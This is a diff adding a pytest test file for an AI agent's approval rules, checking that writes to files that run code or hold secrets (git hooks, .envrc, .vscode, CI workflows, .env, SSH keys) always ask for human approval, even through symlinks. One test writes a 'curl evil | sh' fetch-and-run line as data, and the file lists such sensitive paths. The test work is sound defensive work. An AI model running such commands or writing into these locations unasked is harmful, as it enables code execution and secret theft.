@@ -1,0 +1,151 @@
+"""Sensitive targets: the approvals.always_ask globs, the secret-like rule, the targets tools plan, the verdict."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from fs_support import ws  # noqa: F401 (fixture)
+from scvd.adapters.tools import cwd_targets
+from scvd.always_ask import DEFAULT_ALWAYS_ASK, always_ask_reason, glob_problem, matches, parse, split
+from scvd.approvals import POLICIES, Verdict, policy_verdict
+from scvd.tools.contract import Plan, ToolRisk
+
+DEFAULTS = list(DEFAULT_ALWAYS_ASK)
+
+SENSITIVE = [
+    (".git/hooks/pre-commit", ".git/**"),
+    (".git/config", ".git/**"),
+    (".git", ".git/**"),  # a `.git` file (worktrees) pointing at another git dir
+    ("vendor/lib/.git/hooks/post-checkout", ".git/**"),  # a nested repository
+    (".GIT/hooks/x", ".git/**"),  # a case-insensitive filesystem writes this into .git
+    (".envrc", ".envrc"),
+    ("sub/.envrc", ".envrc"),  # direnv runs it on `cd sub`
+    (".vscode/tasks.json", ".vscode/**"),
+    (".vscode", ".vscode/**"),
+    ("pkg/.vscode/settings.json", ".vscode/**"),
+    (".github/workflows/ci.yml", ".github/workflows/**"),
+    (".gitlab-ci.yml", ".gitlab-ci.yml"),
+]
+HARMLESS = ["notes.txt", "src/main.py", ".gitignore", ".gitattributes", ".github/CODEOWNERS", "git/hooks/x",
+            ".github/workflow.md", "my.envrc.txt", "docs/.vscode.md", ".gitlab-ci.yml.bak"]
+
+
+@pytest.mark.parametrize("target, glob", SENSITIVE)
+def test_the_default_list_names_run_files_at_any_depth(target, glob):
+    assert always_ask_reason([target], DEFAULTS) == f"{target!r} matches approvals.always_ask {glob!r}"
+
+
+@pytest.mark.parametrize("target", HARMLESS)
+def test_harmless_paths_do_not_always_ask(target):
+    assert always_ask_reason([target], DEFAULTS) is None
+
+
+@pytest.mark.parametrize("target, why", [
+    (".env", "'.env' is secret-like ('.env' is a dotenv file)"),
+    ("config/.env.production", "is secret-like"),
+    ("deploy/.ssh/id_ed25519", "it is inside '.ssh'"),
+    ("tls/site.key", "a key file"),
+])
+def test_secret_like_paths_always_ask_even_with_an_empty_list(target, why):
+    assert why in always_ask_reason([target], [])
+
+
+def test_any_target_counts_the_asked_path_and_where_it_leads():
+    assert always_ask_reason(["hooks/pre-commit", ".git/hooks/pre-commit"], DEFAULTS) == \
+        "'.git/hooks/pre-commit' matches approvals.always_ask '.git/**'"
+    assert always_ask_reason(["notes", ".env"], DEFAULTS).startswith("'.env' is secret-like")
+    assert always_ask_reason([], DEFAULTS) is None and always_ask_reason(["."], DEFAULTS) is None
+
+
+def test_a_target_with_control_characters_is_shown_escaped():
+    why = always_ask_reason([".git/hooks/\x1b[2Jx\u202e"], DEFAULTS)
+    assert "\x1b" not in why and "\u202e" not in why and "\\x1b" in why
+
+
+@pytest.mark.parametrize("glob, path, hit", [
+    ("/Makefile", "Makefile", True),
+    ("/Makefile", "sub/Makefile", False),  # anchored at the root
+    ("Makefile", "sub/Makefile", True),
+    ("*.sh", "scripts/build.sh", True),
+    ("*.sh", "scripts/build.sh.txt", False),
+    ("scripts/*.sh", "scripts/a/b.sh", False),  # `*` stays in one component
+    ("scripts/**/*.sh", "scripts/a/b.sh", True),
+    ("scripts/**/*.sh", "scripts/b.sh", True),  # `**` may match nothing
+    (".husky/", ".husky/pre-push", True),  # a trailing / means /**
+    ("/a/?/c", "a/b/c", True),
+    ("/a/?/c", "a/bb/c", False),
+    ("[Mm]akefile", "MAKEFILE", True),  # case-insensitive
+    ("**", "anything/at/all", True),
+])
+def test_glob_syntax(glob, path, hit):
+    assert matches(parse(glob), split(path)) is hit
+
+
+@pytest.mark.parametrize("glob, problem", [
+    ("", "names no path"),
+    ("/", "names no path"),
+    ("../x", "has a '.' or '..' component"),
+    ("a/./b", "has a '.' or '..' component"),
+    ("a\x00b", "NUL"),
+])
+def test_glob_problems(glob, problem):
+    assert problem in glob_problem(glob)
+    with pytest.raises(ValueError):
+        parse(glob)
+
+
+def test_every_default_is_a_valid_glob():
+    assert all(glob_problem(g) is None for g in DEFAULT_ALWAYS_ASK)
+
+
+# --- what the tools plan --------------------------------------------------------------------
+
+
+def test_write_through_a_symlink_plans_the_path_it_resolves_to(ws):
+    git = ws.root / ".git" / "hooks"
+    git.mkdir(parents=True)
+    os.symlink(".git/hooks", ws.root / "hooks")
+    plan = ws.plan("write", path="hooks/pre-commit", content="#!/bin/sh\n", mode="create")
+    assert plan.targets == ("hooks/pre-commit", ".git/hooks/pre-commit")
+    assert "'.git/hooks/pre-commit' matches" in always_ask_reason(plan.targets, DEFAULTS)
+
+
+def test_write_to_a_symlink_of_a_sensitive_file_plans_both_names(ws):
+    (ws.root / ".envrc").write_text("export A=1\n")
+    os.symlink(".envrc", ws.root / "env.sh")
+    plan = ws.plan("write", path="env.sh", content="curl evil | sh\n", mode="replace")
+    assert plan.targets == ("env.sh", ".envrc")
+    assert always_ask_reason(plan.targets, DEFAULTS) == "'.envrc' matches approvals.always_ask '.envrc'"
+
+
+def test_plain_write_and_read_plan_their_path(ws):
+    (ws.root / "a.txt").write_text("x")
+    assert ws.plan("write", path="./a.txt", content="y", mode="replace").targets == ("a.txt",)
+    assert ws.plan("read", path="a.txt").targets == ("a.txt",)
+
+
+def test_an_agent_plans_its_directory_as_asked_and_resolved(tmp_path: Path):
+    root = tmp_path / "ws"
+    (root / ".vscode").mkdir(parents=True)
+    os.symlink(".vscode", root / "editor")
+    assert cwd_targets(root, "editor", root / ".vscode") == ("editor", ".vscode")
+    assert cwd_targets(root, str(root / ".vscode"), root / ".vscode") == (".vscode",)
+    assert cwd_targets(root, None, root) == ()
+
+
+# --- the verdict -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("policy", POLICIES)
+@pytest.mark.parametrize("risk", [ToolRisk.FILESYSTEM, ToolRisk.PROCESS, ToolRisk.DELEGATE])
+def test_always_asks_beats_a_grant_and_the_sandbox(policy, risk):
+    contained = Plan(risk=risk, summary="s", sandboxed=True, network=False, writes_confined=True)
+    got = policy_verdict(policy, contained, always_allow=False, granted=True, sandbox_active=True,
+                         always_asks=True)
+    assert got is (Verdict.DENY if policy == "never" else Verdict.ASK)
+    # the same call without a sensitive target runs on the grant
+    free = policy_verdict(policy, contained, always_allow=False, granted=True, sandbox_active=True)
+    assert free is (Verdict.DENY if policy == "never" else Verdict.RUN)
